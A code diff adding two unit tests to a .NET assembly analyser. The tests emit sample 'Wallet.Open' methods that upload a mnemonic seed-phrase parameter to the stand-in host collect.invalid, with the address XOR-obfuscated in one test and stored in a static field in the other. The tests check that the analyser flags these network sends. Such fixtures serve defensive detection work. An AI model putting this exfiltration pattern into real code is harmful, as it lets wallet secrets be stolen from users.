@@ -134,6 +134,47 @@ public sealed class DotNetReaderTests
     }
 
     [Fact]
+    public void A_disguised_address_is_where_data_goes()
+    {
+        var sample = new Assemblies();
+        TypeBuilder type = sample.Type("Wallet");
+        MethodBuilder open = type.DefineMethod("Open", MethodAttributes.Public | MethodAttributes.Static, typeof(void), [typeof(string)]);
+        open.DefineParameter(1, ParameterAttributes.None, "mnemonic");
+        ILGenerator il = open.GetILGenerator();
+        il.Emit(OpCodes.Newobj, typeof(System.Net.WebClient).GetConstructor([])!);
+        il.Emit(OpCodes.Ldstr, string.Concat("https://collect.invalid/".Select(letter => (char)(letter ^ 5))));
+        il.Emit(OpCodes.Ldarg_0);
+        il.Emit(OpCodes.Callvirt, typeof(System.Net.WebClient).GetMethod("UploadString", [typeof(string), typeof(string)])!);
+        il.Emit(OpCodes.Pop);
+        il.Emit(OpCodes.Ret);
+        FileFacts facts = Read(sample.Build(type));
+        facts.Facts.Single(fact => fact.Name == "network.send").Value.ShouldBe("https://collect.invalid/");
+        facts.Facts.Single(fact => fact.Name == "network.disguised").From.ShouldContain("read.parameter.secret");
+    }
+
+    [Fact]
+    public void A_type_that_keeps_one_address_sends_there()
+    {
+        var sample = new Assemblies();
+        TypeBuilder type = sample.Type("Wallet");
+        FieldBuilder host = type.DefineField("_host", typeof(string), FieldAttributes.Static);
+        ILGenerator il = type.DefineTypeInitializer().GetILGenerator();
+        il.Emit(OpCodes.Ldstr, "https://collect.invalid/");
+        il.Emit(OpCodes.Stsfld, host);
+        il.Emit(OpCodes.Ret);
+        MethodBuilder open = type.DefineMethod("Open", MethodAttributes.Public | MethodAttributes.Static, typeof(void), [typeof(string)]);
+        open.DefineParameter(1, ParameterAttributes.None, "mnemonic");
+        il = open.GetILGenerator();
+        il.Emit(OpCodes.Newobj, typeof(System.Net.WebClient).GetConstructor([])!);
+        il.Emit(OpCodes.Ldsfld, host);
+        il.Emit(OpCodes.Ldarg_0);
+        il.Emit(OpCodes.Callvirt, typeof(System.Net.WebClient).GetMethod("UploadString", [typeof(string), typeof(string)])!);
+        il.Emit(OpCodes.Pop);
+        il.Emit(OpCodes.Ret);
+        Read(sample.Build(type)).Facts.Single(fact => fact.Name == "network.send").Value.ShouldBe("https://collect.invalid/");
+    }
+
+    [Fact]
     public void Imports_from_the_system_are_facts()
     {
         var sample = new Assemblies();
